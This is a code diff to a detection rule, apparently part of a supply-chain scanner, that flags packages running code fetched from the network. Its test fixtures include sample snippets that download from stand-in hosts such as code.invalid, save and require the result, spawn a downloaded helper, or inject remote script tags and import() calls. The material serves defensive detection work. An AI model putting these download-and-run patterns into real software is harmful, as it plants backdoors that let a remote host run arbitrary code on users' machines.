@@ -1,8 +1,10 @@
 /**
- * The network's answer is run as code, or as the name of a module or a command. What runs is then decided at run time by
- * whoever holds the host: it can be harmless while it is looked at, and something else a day later.
+ * The network's answer is run as code, at once or after it was saved, or a page is made to load a script from a host. What
+ * runs is then decided at run time by whoever holds the host: it can be harmless while it is looked at, and something else
+ * a day later.
  */
 import type { Behavior } from '../../src/model/behavior.ts';
+import type { Evidence } from '../../src/model/finding.ts';
 import type { Rule } from '../../src/rule.ts';
 import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';
 
@@ -61,8 +63,85 @@ export const remoteCodeExecuted: Rule = defineRule({
         },
       ],
     },
+    {
+      title: 'an answer that is saved and required, and one that is saved and started when a function is called',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `const fs = require('fs');
+const path = require('path');
+const target = path.join(require('os').tmpdir(), 'part.js');
+fetch('https://code.invalid/part.js').then((answer) => answer.text()).then((text) => {
+  fs.writeFileSync(target, text);
+  require(target);
+});
+exports.update = (answer) => {
+  answer.pipe(fs.createWriteStream('./helper'));
+  require('child_process').spawn('./helper');
+};
+`,
+      },
+      expect: [
+        {
+          message: 'require loads what was written to <temp>/part.js before',
+          at: { in: 'tarball', path: 'index.js', line: 6 },
+          via: ['main', 'index.js', '(anonymous function)'],
+        },
+        {
+          kind: 'when-called',
+          message: 'child_process.spawn starts what was written to ./helper before',
+          at: { in: 'tarball', path: 'index.js', line: 10 },
+          via: ['main', 'index.js', 'update()'],
+        },
+      ],
+    },
+    {
+      title: 'a script element, markup with a script, and an imported address',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `const element = document.createElement('script');
+element.src = 'https://code.invalid/drain.js';
+exports.show = () => document.write('<script src="//code.invalid/show.js"></script>');
+import('https://code.invalid/module.mjs');
+`,
+      },
+      expect: [
+        {
+          message: 'import() loads code from https://code.invalid/module.mjs',
+          at: { in: 'tarball', path: 'index.js', line: 4 },
+          via: ['main', 'index.js'],
+        },
+        {
+          message: 'script.src loads code from https://code.invalid/drain.js',
+          at: { in: 'tarball', path: 'index.js', line: 2 },
+          via: ['main', 'index.js'],
+        },
+        {
+          kind: 'when-called',
+          message: 'script.src loads code from //code.invalid/show.js',
+          at: { in: 'tarball', path: 'index.js', line: 3 },
+          via: ['main', 'index.js', 'show()'],
+        },
+      ],
+    },
   ],
   passes: [
+    {
+      title:
+        'a script from the host that it always came from, an image, a chunk of the package, a file that is written',
+      before: {
+        'index.js': `exports.load = () => { const one = document.createElement('script'); one.src = 'https://cdn.invalid/v1.js'; };\n`,
+      },
+      after: {
+        'index.js': `
+exports.load = () => { const one = document.createElement('script'); one.src = 'https://cdn.invalid/v2.js'; };
+const image = document.createElement('img');
+image.src = 'https://pictures.invalid/a.png';
+exports.chunk = (name) => { const one = document.createElement('script'); one.src = __webpack_public_path__ + name; };
+exports.save = (text) => require('fs').writeFileSync('./cache.json', text);
+exports.read = () => require('./cache.json');
+`,
+      },
+    },
     {
       title: 'an answer that is parsed or printed, and code that does not come from it',
       before: { 'index.js': '' },
@@ -75,15 +154,52 @@ exports.compile = (source) => new Function('data', source);
     },
   ],
   check({ behaviors }) {
-    return behaviors.added.filter(runsAnswer).map((behavior) => {
-      const told = behavior.detail === undefined ? '' : `: ${shorten(behavior.detail, 120)}`;
-      const message = `${behavior.api} runs what the network answered${told}`;
-      return evidenceOf(behavior, message, behavior.tier === 'call' ? 'when-called' : undefined);
+    const { added } = behaviors;
+    const written = findWritten(added);
+    return added.flatMap((behavior): Evidence<'when-called'>[] => {
+      const seen = behavior.tier === 'unreached' ? undefined : describe(behavior, written);
+      return seen === undefined
+        ? []
+        : [evidenceOf(behavior, seen, behavior.tier === 'call' ? 'when-called' : undefined)];
     });
   },
 });
 
-function runsAnswer({ kind, origins, tier }: Behavior): boolean {
-  if (tier === 'unreached' || !origins.includes('fetched')) return false;
-  return kind === 'dynamic-code' || kind === 'computed-import';
+/** Paths that a file writes what it fetched to: by file, since names mean nothing in another. */
+function findWritten(added: readonly Behavior[]): ReadonlySet<string> {
+  const connecting = new Set(added.filter(({ kind }) => kind === 'network').map(({ path }) => path));
+  return new Set(
+    added
+      .filter(({ kind, origins, path }) => kind === 'file-write' && (isForeign(origins) || connecting.has(path)))
+      .flatMap(({ path, detail }) => (detail === undefined || !/\w/.test(detail) ? [] : [`${path} ${detail}`])),
+  );
+}
+
+function isForeign(origins: Behavior['origins']): boolean {
+  return origins.includes('fetched') || origins.includes('decoded');
+}
+
+function describe(behavior: Behavior, written: ReadonlySet<string>): string | undefined {
+  const { kind, api, detail, origins, path } = behavior;
+  if (kind !== 'dynamic-code' && kind !== 'computed-import' && kind !== 'child-process') return undefined;
+  if (detail !== undefined && runsWritten(detail, path, written)) {
+    return `${api} ${kind === 'child-process' ? 'starts' : 'loads'} what was written to ${shorten(detail)} before`;
+  }
+  if (kind === 'child-process') return undefined;
+  const told = detail === undefined ? '' : `: ${shorten(detail, 120)}`;
+  if (origins.includes('fetched')) return `${api} runs what the network answered${told}`;
+  return detail !== undefined && (api === 'script.src' || api === 'import()') && isRemote(detail)
+    ? `${api} loads code from ${shorten(detail, 120)}`
+    : undefined;
+}
+
+/** The path itself, or a word of a command. */
+function runsWritten(detail: string, path: string, written: ReadonlySet<string>): boolean {
+  return written.has(`${path} ${detail}`) || detail.split(' ', 20).some((word) => written.has(`${path} ${word}`));
+}
+
+/** An address whose host the text tells. */
+function isRemote(address: string): boolean {
+  const host = /^(?:https?:)?\/\/([^/?#]+)/i.exec(address)?.[1];
+  return host !== undefined && /^[\w.-]+\.[a-z]+(?::\d+)?$|^[\d.]+(?::\d+)?$/i.test(host);
 }
